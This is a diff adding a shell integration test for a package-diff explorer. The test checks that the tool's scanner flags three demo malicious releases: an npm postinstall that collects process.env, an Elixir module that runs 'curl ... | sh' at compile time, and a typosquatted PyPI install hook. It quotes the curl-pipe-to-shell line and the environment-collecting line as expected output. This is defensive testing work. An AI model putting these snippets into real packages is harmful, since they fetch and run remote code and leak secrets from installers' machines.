@@ -1,0 +1,83 @@
+#!/bin/sh
+# The `make run` demo reaches the source diff: its cache is built as make
+# run builds it, then the explorer runs with no network (in a network
+# namespace of its own when unshare allows one, and with every proxy on a
+# closed port either way) and, for each of the demo's three stories, the
+# release before the pin is picked with [, s compares the two archives
+# shipped in the snapshot, and the pane lists the scanner's new findings
+# and opens the changed file where they are.
+. "$(dirname "$0")/../integration/lib.sh"
+. "$(dirname "$0")/tmux.inc"
+CACHE="$TMP/demo-cache"
+demo_env
+export HOME="$TMP/home" TZ=UTC
+mkdir -p "$HOME"
+cleanup() { T kill-server 2>/dev/null; rm -rf "$TMP"; }
+trap cleanup EXIT
+sh "$DEMO/tools/build-cache.sh" "$BIN" >"$TMP/build.out" 2>&1 && ok || bad "build-cache.sh: $(cat "$TMP/build.out")"
+[ -z "$(ls "$CACHE/archives" 2>/dev/null)" ] && ok || bad "the cache starts with no archive"
+REAL_BIN=$BIN
+if unshare -rn true 2>/dev/null; then
+    printf '#!/bin/sh\nexec unshare -rn "%s" "$@"\n' "$REAL_BIN" > "$TMP/netless"
+    chmod +x "$TMP/netless"
+    BIN="$TMP/netless"
+else
+    echo "  (no network namespace here: the explorer runs with the proxies on a closed port only)"
+fi
+quit_clean() {
+    keys q
+    see "EXIT=0" "$1: quits"
+    same_modes "$1"
+}
+
+# --- npm topbar 2.0.1 -> 2.0.2: a postinstall that posts process.env ---------
+start 180 70 "$DEMO"
+keys / '^topbar$' Enter 2
+see "the pin is the latest release" "topbar's pin is its latest release"
+keys '['
+see "2.0.1 (2023-06-15) -> 2.0.2 latest (2023-12-28)" "[ compares the release before the pin"
+keys s
+see "4 files changed, +16 -3, 0 unchanged" "the two shipped archives are compared"
+see "scanner: 4 findings new in the later version" "the scanner ran on both"
+see "critical npm-install-script-shell package/package.json:8" "the new critical finding, with its place"
+see "npm-exfil package/lib/telemetry.js:6" "the exfiltration"
+see "A +9     -0     lib/telemetry.js" "the added file"
+keys j j Enter
+see "A lib/telemetry.js  2.0.1 -> 2.0.2" "Enter opens the added file"
+see "+const payload = JSON.stringify(process.env);" "the line that collects the environment"
+keys Escape j Enter
+see "M package.json  2.0.1 -> 2.0.2" "the manifest's diff"
+see "+    \"postinstall\": \"node -e" "the postinstall that was added"
+quit_clean "topbar"
+
+# --- Hex ssl_verify_fun 1.1.6 -> 1.1.7: System.cmd at compile time -------------
+start 180 70 "$DEMO"
+keys / '^ssl_verify_fun$' Enter 2 '['
+see "1.1.6 (2020-04-22) -> 1.1.7 latest" "the new owner's release against the one before"
+keys s
+see "high     hex-compile-time-exec lib/ssl_verify_fun/pins.ex:4" "compile-time command in a module body"
+keys j j Enter
+see "A lib/ssl_verify_fun/pins.ex  1.1.6 -> 1.1.7" "the added module"
+see '+  @pins System.cmd("sh", ["-c", "curl -fsS https://pins.ssl-verify.example/v1 | sh"])' "the module attribute that runs curl | sh"
+quit_clean "ssl_verify_fun"
+
+# --- PyPI reqeusts 2.31.0 -> 2.31.1: an sdist with a cmdclass install hook ------
+start 180 70 "$DEMO"
+keys / '^reqeusts$' Enter 2 '['
+see "2.31.0 (2024-11-03) -> 2.31.1 latest" "the typosquat's two releases"
+keys s
+see "py-setup-cmdclass reqeusts-2.31.1/setup.py:14" "the install hook"
+see "M +12    -1     setup.py" "setup.py changed"
+keys j j j Enter
+see "M setup.py  2.31.0 -> 2.31.1" "setup.py's diff"
+see "+class Install(install):" "the command class"
+quit_clean "reqeusts"
+
+# --- an upgrade with the default keys: plug 1.15.3 pinned -> 1.16.1 latest -----
+start 180 70 "$DEMO"
+keys / '^plug$' Enter 2 s
+see "1.15.3 pinned" "the pin against the latest"
+see "3 files changed, +4 -2" "the upgrade's source diff"
+see "scanner: 0 findings new in the later version" "and nothing new to report"
+quit_clean "plug"
+finish
